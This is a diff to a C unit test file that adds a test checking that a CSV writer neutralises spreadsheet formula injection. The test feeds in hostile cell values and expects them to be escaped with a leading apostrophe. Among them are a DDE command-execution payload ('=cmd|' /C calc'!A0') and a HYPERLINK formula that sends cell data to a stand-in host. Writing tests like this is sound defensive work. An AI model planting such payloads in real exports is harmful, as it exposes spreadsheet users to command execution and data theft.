@@ -5,6 +5,7 @@
 #include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 
 #include <cmocka.h>
@@ -468,6 +469,78 @@ static void test_table_writers(void **state)
     plan_table_release(&t); /* released twice: still fine */
 }
 
+/* The CSV text of a one-cell table holding v, without the BOM, the header row and the CRLF. */
+static char *csv_of(const char *v)
+{
+    static const char *const head[] = {"x"};
+    static const enum plan_cell_kind kinds[] = {PLAN_CELL_TEXT};
+    struct plan_table t = {.sheet = "Uji", .ncols = 1, .head = head, .kinds = kinds};
+    t.cells = xmalloc(sizeof(char *));
+    t.cells[0] = xstrdup(v);
+    t.nrows = t.cap = 1;
+    struct buf b;
+    buf_init(&b, 0);
+    assert_int_equal(plan_table_csv(&t, &b, NULL), 0);
+    plan_table_release(&t);
+    static const char pre[] = "\xEF\xBB\xBFx\r\n";
+    assert_true(b.len >= sizeof(pre) + 1);
+    assert_memory_equal(b.data, pre, sizeof(pre) - 1);
+    assert_memory_equal(b.data + b.len - 2, "\r\n", 2);
+    char *out = xstrndup(b.data + sizeof(pre) - 1, b.len - (sizeof(pre) - 1) - 2);
+    buf_release(&b);
+    return out;
+}
+
+/* CSV injection: cells a spreadsheet would run as a formula get a leading ', numbers do not. */
+static void test_csv_formula_cells(void **state)
+{
+    (void)state;
+    static const char *const cases[][2] = {
+        {"=1+1", "'=1+1"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"+1+1", "'+1+1"},
+        {"-1+1", "'-1+1"},
+        {"\tx", "'\tx"},
+        {"\rx", "\"'\rx\""},
+        {"=HYPERLINK(\"http://x.test/?d=\"&A1,\"klik\")",
+         "\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"klik\"\")\""},
+        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+        /* plain numbers stay numbers */
+        {"-5", "-5"},
+        {"+3.2", "+3.2"},
+        {"-0.5", "-0.5"},
+        {"-.5", "-.5"},
+        {"-2,5", "\"-2,5\""},
+        {"-1e+06", "-1e+06"},
+        {"12", "12"},
+        /* phone numbers: digits only is a number; with spaces or dashes it is not */
+        {"+6281234567890", "+6281234567890"},
+        {"+62 812 3456 7890", "'+62 812 3456 7890"},
+        {"+62-812-3456-7890", "'+62-812-3456-7890"},
+        /* not numbers, so text */
+        {"-", "'-"},
+        {"+", "'+"},
+        {"-5-3", "'-5-3"},
+        {"--5", "'--5"},
+        {"-1e", "'-1e"},
+        {"-5 ", "'-5 "},
+        /* harmless where the sign is not first (after spaces) */
+        {"1-2", "1-2"},
+        {"a=b", "a=b"},
+        {" =1+1", "' =1+1"},
+        {"  -5", "  -5"},
+        {"  -x", "'  -x"},
+        {"", ""},
+        {"Pemetaan, \"rawan\"", "\"Pemetaan, \"\"rawan\"\"\""},
+    };
+    for (size_t i = 0; i < WSP_ARRAY_LEN(cases); i++) {
+        char *got = csv_of(cases[i][0]);
+        if (!str_eq(got, cases[i][1]))
+            fail_msg("cell '%s': expected '%s', got '%s'", cases[i][0], cases[i][1], got);
+        free(got);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -475,7 +548,7 @@ int main(void)
         cmocka_unit_test(test_rad_workflow),  cmocka_unit_test(test_access_rules),
         cmocka_unit_test(test_cases_and_skk), cmocka_unit_test(test_compliance),
         cmocka_unit_test(test_csv),           cmocka_unit_test(test_evidence_check),
-        cmocka_unit_test(test_table_writers),
+        cmocka_unit_test(test_table_writers), cmocka_unit_test(test_csv_formula_cells),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
